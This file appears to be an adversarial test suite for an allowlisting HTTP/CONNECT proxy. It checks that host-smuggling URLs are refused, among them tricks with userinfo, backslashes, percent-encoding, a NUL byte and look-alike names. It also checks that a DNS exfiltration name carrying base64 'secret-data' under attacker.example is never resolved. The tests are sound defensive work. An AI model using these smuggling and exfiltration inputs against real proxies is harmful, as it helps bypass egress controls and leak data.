/**
 * @module test/adversarial/cases-names
 * Names and DNS: policy is decided on one canonical form and that same form is resolved and
 * dialled; suffix confusion, userinfo, backslashes and percent-encoding cannot smuggle another
 * host past the match; a single-label name is never expanded by the namespace's search list; and a
 * denied name (or an allowed name on a denied port) is never resolved at all.
 */
import assert from 'node:assert/strict';
import { buildClientHello } from '../../src/net/test-client-hello.js';
import { connect, get, type AdversarialCase } from './cases.js';
import { SETTINGS } from './world.js';

const notListed = (url: string, why: string): AdversarialCase => ({
  name: `GET ${url} → ${why}`,
  send: get(url),
  expect: { status: 403, reason: 'not_allowlisted' },
});

type Refusal = 'bad_request' | 'invalid_host' | readonly ('bad_request' | 'invalid_host')[];
/** The node engine reads such a target, then refuses its host; the fast engine's parser refuses the target. */
export const EITHER: Refusal = ['invalid_host', 'bad_request'];

const refused = (url: string, reason: Refusal, why: string): AdversarialCase => ({
  name: `GET ${url} → ${why}`,
  send: get(url),
  expect: { status: 400, reason, closed: true },
});

function hostSeen(expected: string): AdversarialCase['expect']['check'] {
  return (_o, seen) => {
    const raw = seen.httpSeen[0]?.rawHeaders ?? [];
    assert.deepEqual(
      raw.filter((_v, i) => i % 2 === 0 && raw[i]?.toLowerCase() === 'host').length,
      1,
      'one Host header',
    );
    assert.equal(raw[raw.findIndex((v) => v.toLowerCase() === 'host') + 1], expected);
  };
}

export const NAME_CASES: readonly AdversarialCase[] = [
  notListed('http://evilbank.test/', 'a longer name ending in an allowed one is another name'),
  notListed('http://bank.test.attacker.example/', 'an allowed name as a prefix is another name'),
  notListed('http://www.bank.test/', 'an exact entry does not cover subdomains'),
  notListed('http://xcorp.test/', '.corp.test does not cover xcorp.test'),
  notListed('http://corp.test.attacker.example/', '.corp.test does not match as a prefix'),
  refused('http://b%C3%A4nk.test/', 'invalid_host', 'a percent-encoded IDN is refused'),
  notListed('http://xn--bnk-qla.test/', 'an IDN look-alike (bänk.test) is its own punycode name'),
  {
    name: 'GET http://BANK.TEST./ → canonical bank.test: allowed, asked and dialled in that form',
    send: get('http://BANK.TEST./canonical'),
    expect: {
      status: 200,
      reason: 'allowed',
      dns: ['bank.test'],
      reaches: true,
      check: hostSeen('bank.test'),
    },
  },
  {
    name: 'GET http://www.corp.test:80/ → .corp.test covers subdomains',
    send: get('http://www.corp.test:80/'),
    expect: {
      status: 200,
      reason: 'allowed',
      dns: ['www.corp.test'],
      reaches: true,
      check: hostSeen('www.corp.test'),
    },
  },
  refused('http://bank.test@evil.example/', 'bad_request', 'userinfo is refused, not stripped'),
  refused('http://evil.example@bank.test/', 'bad_request', 'userinfo is refused even before an allowed host'),
  refused('http://bank.test:80@evil.example/', 'bad_request', 'userinfo with a port-like part is refused'),
  refused('http://evil.example\\@bank.test/', 'bad_request', 'backslash-then-userinfo is refused'),
  refused('http://bank.test\\evil.example/', 'bad_request', 'a backslash in the host is refused'),
  refused(
    'http://evil.example\\.bank.test/',
    'bad_request',
    'a backslash before an allowed suffix is refused',
  ),
  refused('http://bank%2etest/', 'invalid_host', 'percent-encoded dot is refused'),
  refused('http://%62ank.test/', 'invalid_host', 'percent-encoded letter is refused'),
  refused('http://evil.example%00.bank.test/', 'invalid_host', 'percent-encoded NUL is refused'),
  refused('http://bank.test#@evil.example/', 'bad_request', 'a fragment in the target is refused'),
  refused('http://bank.test../', 'invalid_host', 'an empty label is refused'),
  refused(`http://${'a'.repeat(64)}.bank.test/`, 'invalid_host', 'a label over 63 characters is refused'),
  refused('http:///', EITHER, 'an empty host is refused'),
  {
    name: 'CONNECT BANK.TEST.:443 with SNI bank.test → canonical form matches, tunnel allowed',
    send: connect('BANK.TEST.:443', buildClientHello({ sni: ['bank.test'] })),
    expect: { status: 200, reason: 'allowed', dns: ['bank.test'], reaches: true, closed: true },
  },
  {
    name: 'CONNECT evilbank.test:443 → not on the allowlist, never resolved',
    send: connect('evilbank.test:443'),
    expect: { status: 403, reason: 'not_allowlisted', closed: true },
  },
  {
    name: 'GET http://intranet/ → asked as "intranet" only, never expanded by the search list',
    send: get('http://intranet/'),
    expect: { status: 502, reason: 'dns_failure', dns: ['intranet'] },
  },
];

export const DNS_CASES: readonly AdversarialCase[] = [
  notListed(
    'http://c2VjcmV0LWRhdGE.exfil.attacker.example/',
    'a denied name is never resolved (no exfiltration)',
  ),
  {
    name: 'CONNECT c2VjcmV0LWRhdGE.exfil.attacker.example:443 → never resolved',
    send: connect('c2VjcmV0LWRhdGE.exfil.attacker.example:443'),
    expect: { status: 403, reason: 'not_allowlisted', closed: true },
  },
  {
    name: 'GET http://ok.lab.test:25/ → an allowed name on a denied port is never resolved',
    send: get('http://ok.lab.test:25/'),
    expect: { status: 403, reason: 'port_not_allowed' },
  },
  {
    name: 'CONNECT ok.lab.test:22 → an allowed name on a denied port is never resolved',
    send: connect('ok.lab.test:22'),
    expect: { status: 403, reason: 'port_not_allowed', closed: true },
  },
  refused('http://exfil_data..attacker.example/', 'invalid_host', 'an invalid name is never resolved'),
  {
    name: 'GET http://OK.Lab.Test./ → DNS is asked the canonical name',
    send: get('http://OK.Lab.Test./'),
    expect: { status: 200, reason: 'allowed', dns: ['ok.lab.test'], reaches: true },
  },
  {
    name: 'GET http://alive.lab.test/ → a dns.hosts entry answers without any query',
    send: get('http://alive.lab.test/'),
    expect: { status: 200, reason: 'allowed', reaches: true },
  },
  {
    name: 'GET http://missing.lab.test/ → NXDOMAIN is a 502 dns_failure',
    send: get('http://missing.lab.test/'),
    expect: { status: 502, reason: 'dns_failure', dns: ['missing.lab.test'] },
  },
  {
    name: 'GET http://servfail.lab.test/ → SERVFAIL is a 502 dns_failure',
    send: get('http://servfail.lab.test/'),
    expect: { status: 502, reason: 'dns_failure', dns: ['servfail.lab.test'] },
  },
  {
    name: `GET http://slow.lab.test/ → a DNS server that never answers: 502 after dns.timeoutMs`,
    send: get('http://slow.lab.test/'),
    expect: {
      status: 502,
      reason: 'dns_failure',
      dns: ['slow.lab.test'],
      check: (o) =>
        assert.ok(o.ms >= SETTINGS.dnsTimeoutMs * 0.8 && o.ms < SETTINGS.dnsTimeoutMs + 1500, `${o.ms} ms`),
    },
  },
];
